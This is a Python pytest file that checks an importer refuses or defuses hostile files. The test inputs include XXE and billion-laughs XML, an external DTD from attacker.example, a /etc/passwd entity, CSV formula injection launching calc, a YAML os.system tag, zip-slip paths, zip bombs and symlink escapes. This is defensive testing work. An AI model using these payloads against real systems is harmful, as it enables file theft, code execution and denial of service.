"""Files to import that attack their reader: bombs, paths, formulas, scripts, broken data."""

import io
import json
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from objects.importing.concepts import KnownConcepts
from objects.importing.folders import DiskFolder, ZipFolder
from objects.importing.mapping import build
from objects.importing.markdown_folder import markdown_items
from objects.importing.markup import markdown_of
from objects.importing.report import BadSource, Built, Kind
from objects.importing.sources import open_source
from objects.importing.wordpress import WordPressFile
from objects.text import markdown_html

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
NOBODY = KnownConcepts()
CORPUS = Path(__file__).parents[1] / "data" / "dompurify-xss" / "payloads.json"


class Shown(HTMLParser):
    """Reads HTML as a browser does and notes what would act."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "form", "svg", "style", "meta", "base"}:
            self.bad.append(tag)
        for name, value in attrs:
            odd = name == "href" and not (value or "").startswith(("http", "mailto:"))
            if name.startswith("on") or name in {"style", "srcdoc"} or odd:
                self.bad.append(f"{tag} {name}={value}")


def built(kind: Kind, path: Path) -> list[Built]:
    """Everything that is in a file."""
    return [build(item, NOBODY, "fr") for item in open_source(kind, path).items]


def refused(kind: Kind, path: Path) -> str:
    """Why a file is refused."""
    with pytest.raises(BadSource) as caught:
        built(kind, path)
    return caught.value.code


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE rss [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">',
    ],
)
def test_xml_entities_and_foreign_definitions_are_refused(doctype: str, tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    path.write_text(f"{doctype}<rss><channel><item><title>&l9;</title></item></channel></rss>")
    assert refused("wordpress", path) == "xml-entities"


@pytest.mark.parametrize(
    ("kind", "name", "content", "code"),
    [
        ("wordpress", "a.xml", b"<rss><channel><item>", "bad-xml"),
        ("wordpress", "a.xml", b"<html><body>no</body></html>", "not-wordpress"),
        ("wordpress", "a.xml", b'<?xml version="1.0" encoding="klingon"?><a/>', "bad-xml"),
        ("yeswiki", "a.json", b"[" * 100_000, "bad-json"),
        ("yeswiki", "a.json", b'{"a": "\xff\xfe"}', "bad-json"),
        ("yeswiki", "a.json", b'[{"other": 1}]', "not-yeswiki"),
        ("yeswiki", "a.json", b"null", "not-yeswiki"),
        ("csv", "a.csv", b"", "bad-table"),
        ("csv", "a.csv", b"\x00\x01\x02;\x03", "bad-table"),
        ("csv", "a.csv", b"nom_de_famille;age\nx;1\n", "no-title-column"),
        ("csv", "a.csv", b'titre;contexte\nA;"' + b"x" * 10_000_000 + b'"\n', "bad-table"),
        ("markdown", "a.md", b"# A", "no-markdown"),
        ("markdown", "a.zip", b"PK\x05\x06" + b"\0" * 18, "no-markdown"),
    ],
)
def test_broken_files_are_refused_with_a_reason(
    kind: Kind, name: str, content: bytes, code: str, tmp_path: Path
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert refused(kind, path) == code


def test_a_table_that_breaks_off_keeps_what_came_before(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b'titre;contexte\nA;b\nC;"' + b"x" * 200_000 + b'"\n')
    found: list[str] = []
    with pytest.raises(BadSource):
        found.extend(item.values["titre"] for item in open_source("csv", path).items)
    assert found == ["A"]


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x")', "+1+cmd|'/C calc'!A0", "@SUM(1)", "-2+3"]
)
def test_formulas_are_mere_text(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    quoted = cell.replace('"', '""')
    path.write_text(f'titre;contexte\n"{quoted}";"{quoted}"\n')
    (found,) = built("csv", path)
    assert found.experience.title == cell
    assert found.experience.context == cell


def test_a_field_of_ten_megabytes_is_cut_and_said(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    path.write_text('[{"bf_titre": "A", "bf_description": "' + "mot " * 2_500_000 + '"}]')
    (found,) = built("yeswiki", path)
    assert len(found.experience.context) <= 50_000
    assert {problem.code for problem in found.problems} == {"cut"}
    assert found.doubtful


def test_html_of_any_depth_and_malice_becomes_harmless_markdown() -> None:
    assert "fin" in markdown_of("<div>" * 50_000 + "fin")
    for payload in [entry["payload"] for entry in json.loads(CORPUS.read_text("utf-8"))]:
        shown = Shown()
        shown.feed(markdown_html(markdown_of(payload)))
        assert not shown.bad, payload


def test_yaml_that_refers_to_itself_is_not_read(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x]", *(f"a{n}: &a{n} [{f'*a{n - 1},' * 9}]" for n in range(1, 12))]
    (tmp_path / "a.md").write_text("---\ntitle: A\n" + "\n".join(lines) + "\n---\nTexte\n")
    (tmp_path / "b.md").write_text("---\ntitle: !!python/object/apply:os.system ['true']\n---\nB\n")
    for item in markdown_items(DiskFolder(tmp_path)):
        assert "bad-front-matter" in {problem.code for problem in item.problems}


def test_links_and_names_that_leave_the_folder_are_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"secret")
    folder = tmp_path / "texts"
    folder.mkdir()
    (folder / "a.md").write_text("![x](../secret.png) ![y](link.png) ![z](/etc/hostname)")
    (folder / "link.png").symlink_to(secret)
    (folder / "out").symlink_to(tmp_path)
    found = DiskFolder(folder)
    assert found.names() == ["a.md"]
    (item,) = list(markdown_items(found))
    assert [found.read(picture.path) for picture in item.pictures] == [None, None, None]
    for name in ("out/secret.png", "a\0b", "x" * 5_000, str(secret), ".."):
        assert found.read(name) is None


def test_archives_are_read_in_place_and_with_a_limit(tmp_path: Path) -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../outside.md", "# Dehors")
        archive.writestr("/etc/cron.d/x.md", "# Racine")
        archive.writestr("bomb.md", b"a" * 30_000_000)
        archive.writestr("good.md", "# Bien")
    before = sorted(tmp_path.iterdir())
    folder = ZipFolder(written)
    assert folder.names() == ["bomb.md", "good.md"]
    assert folder.read("bomb.md", 2_000_000) is None
    titles = {item.where: item.unfinished for item in markdown_items(folder)}
    assert titles == {"bomb.md": True, "good.md": False}
    assert sorted(tmp_path.iterdir()) == before


def test_an_archive_that_lies_about_its_sizes_is_cut_off() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.md", b"a" * 5_000_000)
    raw = bytearray(written.getvalue())
    size = (5_000_000).to_bytes(4, "little")
    while (place := raw.find(size)) >= 0:
        raw[place : place + 4] = (10).to_bytes(4, "little")
    content = ZipFolder(io.BytesIO(bytes(raw))).read("bomb.md", 1_000)
    assert content is None or len(content) <= 1_000


def test_a_stream_of_posts_is_read_one_by_one() -> None:
    """The first post is there before the file is known to be broken."""
    head = (
        '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel>'
        "<item><title>A</title><wp:post_type>post</wp:post_type></item>"
    )
    padding = "<item><wp:post_type>nav_menu_item</wp:post_type></item>" * 5_000
    items = WordPressFile(io.BytesIO((head + padding + "<broken").encode())).items()
    assert next(items).values["titre"] == "A"
    with pytest.raises(BadSource):
        list(items)
